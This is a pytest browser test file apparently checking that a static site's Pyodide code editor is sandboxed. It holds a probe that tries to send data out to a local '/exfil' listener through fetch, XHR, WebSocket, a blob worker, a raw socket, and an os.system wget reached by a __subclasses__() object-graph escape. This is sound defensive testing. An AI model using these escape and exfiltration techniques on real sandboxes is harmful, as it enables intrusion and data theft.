"""Code from a link (issue 27 §1) in chromium, against the built site served statically: it runs
only after the reader has read it and said yes; said yes to, it still cannot reach another
origin (a listener on a second port counts every connection: 0), whether it asks Pyodide's `js`
module or walks Python's object graph to the OS; an edit that never returns stops with a message
within 10 s while the other panels keep playing; and every built page carries the
Content-Security-Policy that makes this hold on any static host, with no violation in normal use."""

from __future__ import annotations

import base64
import socketserver
import threading
import time
import zlib
from pathlib import Path

import pytest
from conftest import LIVE_TIMEOUT_MS, sim_eval, wait_live

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
KEEP_ZERO = (ROOT / "docs" / "examples" / "lru_keep_zero.py").read_text(encoding="utf-8")
NAME = "lru (edited)"
ACCESS = "    def access(self, key: Hashable) -> bool:\n"

# Tried at load and reported by the first access (which raises, so the panel's message says what
# each attempt met): Pyodide's js module (fetch, XHR, WebSocket, a worker of its own), and the
# object graph's way to os.system and to a socket (Emscripten's sockets are WebSockets).
PROBE = """
import collections as _c

_tried = []


def _try(label, fn):
    try:
        fn()
        _tried.append(label + " ran")
    except BaseException as exc:  # noqa: BLE001
        _tried.append(f"{label} {type(exc).__name__}")


_imp = _c._sys.modules["importlib"].import_module
_url = "http://127.0.0.1:PORT/exfil?via="


def _fetch():
    _imp("js").fetch(_url + "js.fetch")


def _xhr():
    x = _imp("js").XMLHttpRequest.new()
    x.open("GET", _url + "xhr", False)
    x.send()


def _ws():
    _imp("js").WebSocket.new("ws://127.0.0.1:PORT/exfil?via=ws")


def _worker():
    js, ffi = _imp("js"), _imp("pyodide.ffi")
    blob = js.Blob.new(ffi.to_js(["fetch('" + _url + "blob-worker')"]))
    js.Worker.new(js.URL.createObjectURL(blob))


def _globals():
    wrap = next(c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "_wrap_close")
    return wrap.__init__.__globals__


def _system():
    _globals()["system"]("wget -q -O- " + _url + "os.system")


def _socket():
    socket = _globals()["sys"].modules["importlib"].import_module("socket")
    s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    s.sendall(b"GET /exfil?via=socket HTTP/1.0\\r\\n\\r\\n")


for _label, _fn in [("fetch", _fetch), ("xhr", _xhr), ("ws", _ws), ("worker", _worker), ("system", _system), ("socket", _socket)]:
    _try(_label, _fn)
"""


class Listener:
    """A second local origin: counts every connection made to it (an HTTP request, a WebSocket)."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                hits.append(self.request.recv(200).split(b"\r\n")[0].decode("latin-1"))
                self.request.sendall(b"HTTP/1.0 200 OK\r\nAccess-Control-Allow-Origin: *\r\n\r\nok")

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    lis = Listener()
    yield lis
    lis.close()


def pack(source: str) -> str:
    """What edits.js puts in a link: the source, deflate-raw, base64url."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.urlsafe_b64encode(c.compress(source.encode()) + c.flush()).decode().rstrip("=")


def probing(port: int) -> str:
    """KEEP_ZERO with the probe at load and its report raised by the first access."""
    body = KEEP_ZERO.replace(ACCESS, ACCESS + '        raise RuntimeError("probe: " + "; ".join(_tried))\n')
    return body + PROBE.replace("PORT", str(port))


def runaway(line: str) -> str:
    """KEEP_ZERO whose access never returns on key 5 (a builtin that the step budget cannot count)."""
    source = KEEP_ZERO.replace("from collections import", "import itertools\nfrom collections import")
    return source.replace(ACCESS, ACCESS + f"        if key == 5:\n            {line}\n")


def open_link(page, server: str, source: str, fragment: str = "t=2&panels=lru,arc,lru%20(edited)") -> None:
    page.goto(f"{server}play/cache-scan/#{fragment}&edit.lru={pack(source)}")
    page.wait_for_selector("[data-consent]", timeout=LIVE_TIMEOUT_MS)


def panel_error(page, name: str = NAME) -> str:
    return page.evaluate(
        "(n) => document.querySelector(`figure[data-panel=\"${n}\"] .cs-panel-error`)?.textContent || ''", name
    )


def test_a_link_asks_first_and_without_a_yes_the_preset_plays_as_written(page, server, listener):
    open_link(page, server, probing(listener.port))
    shown = page.text_content("[data-consent]")
    assert "This link carries an edited policy" in shown and "Open without it" in shown and "Run it" in shown
    code = page.text_content('[data-consent-code="lru"]')
    assert '_imp("js").fetch(_url + "js.fetch")' in code and "__subclasses__()" in code  # the code itself, shown
    assert sim_eval(page, "return sim.dataset.state;") == "loading"  # nothing runs while the reader reads
    page.click("[data-consent-skip]")
    wait_live(page)
    info = sim_eval(page, "return {panels: sim.panelNames, edits: sim.edits.length, run: !!sim.editRun};")
    assert info == {"panels": ["lru", "arc"], "edits": 0, "run": False}
    sim_eval(page, "sim.play(); await new Promise((r) => setTimeout(r, 1500)); sim.pause();")
    page.wait_for_function(
        "() => !location.hash.includes('edit.') && location.hash.includes('seed=')"
    )  # the page's link
    assert page.locator("[data-consent]").count() == 0
    time.sleep(1)
    assert listener.hits == [] and not page.errors


def test_said_yes_to_the_code_runs_but_reaches_no_other_origin(page, server, listener):
    violations = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    open_link(page, server, probing(listener.port))
    page.click("[data-consent-run]")
    wait_live(page)
    page.wait_for_function(
        "(n) => (document.querySelector(`figure[data-panel=\"${n}\"] .cs-panel-error`)?.textContent || '').includes('probe:')",
        arg=NAME,
        timeout=LIVE_TIMEOUT_MS,
    )
    report = panel_error(page)
    assert all(f"{label} " in report for label in ("fetch", "xhr", "ws", "worker", "system", "socket")), report
    print("REPORT", report)
    time.sleep(3)  # anything in flight arrives meanwhile
    assert listener.hits == [], (listener.hits, report)
    # the page's own worker never received the code: it refuses the operations that run edits
    refused = sim_eval(
        page,
        "return await sim.worker.request('editor_check', {preset: 'cache-scan', source: ''}).catch((e) => e.message);",
    )
    assert "runs only in the edited-policy worker" in refused
    assert sim_eval(page, "return sim.panelNames;") == ["lru", "arc", NAME]
    assert not page.errors, page.errors


def test_every_worker_the_page_can_start_stays_on_its_origin(page, server, listener):
    """The policy itself, without the edited worker's own lockdown: a blob: worker inherits it, a
    worker from a URL (which would carry no policy on a static host) cannot start."""
    page.goto(f"{server}play/cache-scan/")
    wait_live(page)
    port = listener.port
    got = page.evaluate(
        """async (port) => {
          const url = `http://127.0.0.1:${port}/exfil`;
          const out = {};
          out.page = await fetch(url + "?via=page").then(() => "ran", (e) => e.name);
          const src = `fetch("${url}?via=blob").then(() => postMessage("ran"), (e) => postMessage(e.name));`;
          const w = new Worker(URL.createObjectURL(new Blob([src], { type: "text/javascript" })));
          out.blob = await new Promise((r) => (w.onmessage = (e) => r(e.data)));
          const refused = new Promise((r) => document.addEventListener("securitypolicyviolation", (e) => r(e.effectiveDirective)));
          const w2 = new Worker(new URL("/static/js/worker.js", location.href), { type: "module" });
          out.url = await new Promise((r) => {
            w2.onmessage = () => r("ran");
            refused.then(r);
          });
          return out;
        }""",
        port,
    )
    assert got == {"page": "TypeError", "blob": "TypeError", "url": "worker-src"}, got
    time.sleep(1)
    assert listener.hits == []


@pytest.mark.parametrize("line", ["x = 10 ** 10 ** 9", "x = list(itertools.count())"])
def test_an_edit_that_never_returns_stops_within_10_s_and_the_others_play_on(page, server, line):
    open_link(page, server, runaway(line), fragment="seed=7")
    # while the reader reads the code, both Pythons start: the page's and the edited policies'
    sim_eval(page, "await sim.worker.ready; await (await import('/static/js/edited.js')).prestart().ready;")
    page.click("[data-consent-run]")
    start = time.monotonic()
    wait_live(page)
    sim_eval(page, "sim.play();")
    before = sim_eval(page, "return {t: sim.t, requests: sim.frame.panels.lru.metrics.requests};")
    page.wait_for_function(
        "(n) => (document.querySelector(`figure[data-panel=\"${n}\"] .cs-panel-error`)?.textContent || '').includes('worker was ended')",
        arg=NAME,
        timeout=30_000,
    )
    took = time.monotonic() - start
    text = panel_error(page)
    assert took < 10, (took, text)
    assert text.startswith(f"{NAME} stopped: its code ran for over 4 s"), text
    during = sim_eval(page, "return {t: sim.t, requests: sim.frame.panels.lru.metrics.requests};")
    assert during["t"] > before["t"] + 1 and during["requests"] > before["requests"]  # the others kept playing
    page.wait_for_timeout(1500)
    assert sim_eval(page, "return sim.t;") > during["t"]
    snap = sim_eval(page, "sim.pause(); return await sim.snapshot();")
    assert snap["panels"]["lru"]["requests"] > during["requests"] and NAME in snap["panels"]
    print(f"RUNAWAY {line}: message {took:.1f} s after Run it")
    assert not page.errors, page.errors


PAGES = [
    "index.html",
    "topics/cache/",
    "topics/cache/lru/",  # a concept page (its data is JSON, its scripts are files)
    "tracks/",
    "search/",
    "404.html",
    "embed/cache-scan/",
    "examples/blog-post.html",
]


def test_every_page_carries_the_policy_and_runs_without_a_violation(page, server, site):
    """The home, topic, concept, tracks, search, 404, embed and example pages, and a preset page with its charts, its
    editor's CodeMirror bundle and a run: the policy is there, and nothing runs into it (the
    site's other browser tests run every page's features under it too)."""
    problems = []
    page.on("console", lambda m: problems.append(m.text) if "Content Security Policy" in m.text else None)
    built = [p for p in site.rglob("*.html") if "vendor" not in p.parts]
    assert built and all('http-equiv="Content-Security-Policy"' in p.read_text(encoding="utf-8") for p in built)
    for rel in PAGES:
        page.goto(f"{server}{rel}")
        page.wait_for_load_state("load")
        csp = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
        assert "connect-src 'self'" in csp and "worker-src blob:" in csp, rel
    page.goto(f"{server}examples/blog-post.html")  # the embeds' posters draw (test_embed.py runs them live)
    page.wait_for_function("() => [...document.querySelectorAll('contention-sim')].every((e) => e.ui)")
    page.goto(f"{server}play/cache-scan/")
    wait_live(page)
    page.click("[data-edit-open]")
    page.wait_for_selector("[data-edit-code] .cm-content")
    sim_eval(page, "sim.play(); await new Promise((r) => setTimeout(r, 1000)); sim.pause();")
    assert page.locator(".uplot").count() > 0
    assert problems == [] and not page.errors, problems + page.errors
